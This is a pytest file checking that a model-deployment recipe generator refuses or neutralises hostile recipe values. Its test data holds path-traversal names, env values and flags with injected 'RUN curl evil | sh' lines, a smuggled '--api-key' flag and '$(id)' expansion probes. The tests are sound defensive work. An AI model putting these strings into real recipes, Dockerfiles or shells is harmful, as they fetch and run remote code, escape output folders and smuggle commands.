"""Recipes come from other people. Each test is an attack or an accident that used to get through: a path
out of the output folder, a second variable or line in a generated file, a `$` that compose or Docker
expands, a flag that smuggles another, a count that writes thousands of files."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.conftest import ROOT, recipes_tree, small_recipe, tree_snapshot
from tests.hostile_trees import in_process

KIMI_FILE = Path("recipes/models/moonshotai/Kimi-Linear-48B-A3B-Instruct.yaml")
Change = Callable[[dict[str, Any]], None]


def _refused(tmp_path: Path, change: Change, field: str, value: str) -> str:
    """generate refuses the recipe in one line naming file, field and value, and writes nothing for it."""
    recipe = small_recipe()
    change(recipe)
    recipes = recipes_tree(tmp_path / "recipes", {"acme/Small-8B": recipe})
    out = tmp_path / "work" / "out"
    result = in_process(ROOT, "generate", "--recipes", str(recipes), "--out", str(out))
    assert result.returncode == 1, result.stdout + result.stderr
    line = next(line for line in result.stderr.splitlines() if line.startswith("bad recipe:"))
    assert "models/acme/Small-8B.yaml" in line and field in line and repr(value) in line, line
    assert not (out / "compose" / "small").exists() and not (out / "images" / "small").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["recipes", "work"], "nothing written beside"
    return line


@pytest.mark.parametrize(
    ("change", "field", "value"),
    [
        (lambda r: r["meta"].update(slug="../../../tmp/evil"), "meta.slug", "../../../tmp/evil"),
        (lambda r: r["model"].update(model_id='../../x y"z'), "model.model_id", '../../x y"z'),
        (lambda r: r["model"].update(model_id="acme/../../etc"), "model.model_id", "acme/../../etc"),
        (
            lambda r: r.update(variants={"../up": {"precision": "bf16"}}),
            "variants",
            "../up",
        ),
    ],
    ids=["slug-climbs-out", "model-id-with-quote-and-space", "model-id-climbs-out", "variant-climbs-out"],
)
def test_names_that_would_leave_the_output_folder_are_refused(
    tmp_path: Path, change: Change, field: str, value: str
) -> None:
    _refused(tmp_path, change, field, value)
    assert not (Path("/tmp/evil").exists() and Path("/tmp/evil").stat().st_mtime > tmp_path.stat().st_mtime)


def test_an_environment_name_that_would_set_two_variables_is_refused(tmp_path: Path) -> None:
    line = _refused(
        tmp_path,
        lambda r: r.update(hardware_overrides={"nvidia": {"extra_env": {"A=1 B": "x"}}}),
        "hardware_overrides.nvidia.extra_env",
        "A=1 B",
    )
    assert "environment variable name" in line


@pytest.mark.parametrize(
    ("change", "field", "value"),
    [
        (
            lambda r: r.update(hardware_overrides={"nvidia": {"extra_env": {"A": "x\nRUN curl evil | sh"}}}),
            "hardware_overrides.nvidia.extra_env.A",
            "x\nRUN curl evil | sh",
        ),
        (
            lambda r: r["model"].update(base_args=["--trust-remote-code\nRUN curl evil | sh"]),
            "model.base_args[0]",
            "--trust-remote-code\nRUN curl evil | sh",
        ),
        (
            lambda r: r["model"].update(base_args=["--max-model-len 4096 --api-key leaked"]),
            "model.base_args[0]",
            "--max-model-len 4096 --api-key leaked",
        ),
    ],
    ids=["newline-in-env-value", "newline-in-flag", "whitespace-smuggles-a-flag"],
)
def test_values_that_would_add_a_line_or_a_flag_are_refused(
    tmp_path: Path, change: Change, field: str, value: str
) -> None:
    _refused(tmp_path, change, field, value)


def test_dollar_signs_reach_vllm_as_written(scratch: Path) -> None:
    """A recipe's `${HOME}` or `$(cmd)` is text: Docker's ENV must not expand it at build time, compose
    must not read the operator's environment for it (nor ask for a HOME setting)."""
    path = scratch / KIMI_FILE
    data = yaml.safe_load(path.read_text())
    data["hardware_overrides"]["amd"]["extra_env"]["SAFETENSORS_FAST_GPU"] = "${HOME}/$(id)"
    data["hardware_overrides"]["amd"]["extra_args"].append("--served-model-name=$USER")
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    result = in_process(scratch, "generate")
    assert result.returncode == 0, result.stderr
    dockerfile = (
        scratch / "images/kimi-linear-48b-a3b-instruct/vllm0.11.2-mi300x-default/Dockerfile"
    ).read_text()
    assert "SAFETENSORS_FAST_GPU" not in dockerfile, "a value with a `$` stays out of ENV: compose sets it"
    assert '"--served-model-name=$USER"]' in dockerfile, "exec form: no shell, no expansion"
    folder = scratch / "compose/kimi-linear-48b-a3b-instruct/mi300x-default"
    single = (folder / "single_node_tp/compose.yaml").read_text()
    assert 'SAFETENSORS_FAST_GPU: "$${HOME}/$$(id)"' in single
    assert '"--served-model-name=$$USER"' in single
    for example in folder.rglob(".env.example"):
        names = re.findall(r"^([A-Z_]+)=", example.read_text(), flags=re.M)
        assert "HOME" not in names and "USER" not in names, example
    # What compose makes of it, with HOME and USER set in its environment: the text, unexpanded.
    config = run_compose_config(folder / "single_node_tp" / "compose.yaml")
    service = next(iter(config["services"].values()))
    # (config prints its result as compose text again: `$$` there is one `$` in the container)
    assert service["environment"]["SAFETENSORS_FAST_GPU"] == "$${HOME}/$$(id)", "not /root/..."
    assert "--served-model-name=$$USER" in service["command"], "not operator"


def run_compose_config(compose_file: Path) -> dict[str, Any]:
    import subprocess

    from factory.base.tools import compose_binary

    # The Compose v2 binary the project depends on (no engine needed for `config`), not the CLI plugin:
    # a missing plugin used to skip this test, in CI too.
    result = subprocess.run(
        [str(compose_binary()), "-f", str(compose_file), "config", "--format", "json"],
        capture_output=True,
        text=True,
        env={
            "HOME": "/root",
            "USER": "operator",
            "RENDER_GID": "109",
            "PATH": "/usr/bin:/bin:/usr/local/bin",
        },
        check=False,
    )
    assert result.returncode == 0, result.stderr
    return dict(json.loads(result.stdout))


def test_a_node_count_that_would_write_thousands_of_files_is_refused(scratch: Path) -> None:
    before = tree_snapshot(scratch)
    result = in_process(scratch, "generate", "--nodes", "1000")
    assert result.returncode == 2
    assert "--nodes: 1000 is outside 2..64" in result.stderr
    assert tree_snapshot(scratch) == before


def test_capitals_in_a_slug_are_lower_cased_not_refused(tmp_path: Path) -> None:
    recipes = recipes_tree(
        tmp_path / "recipes",
        {"acme/Small-8B": small_recipe(meta={"slug": "Small-Caps", "title": "t", "hardware": {}})},
    )
    out = tmp_path / "out"
    result = in_process(ROOT, "generate", "--recipes", str(recipes), "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert (out / "compose" / "small-caps").is_dir(), sorted(p.name for p in (out / "compose").iterdir())


def test_dockerfile_values_are_not_expanded_at_build_time() -> None:
    """ENV and LABEL expand `$` when Docker builds: the filter every such value goes through escapes it."""
    from factory.base.templating import dockerfile_value

    assert dockerfile_value('${HOME} "quoted" $(id)') == r'"\${HOME} \"quoted\" \$(id)"'
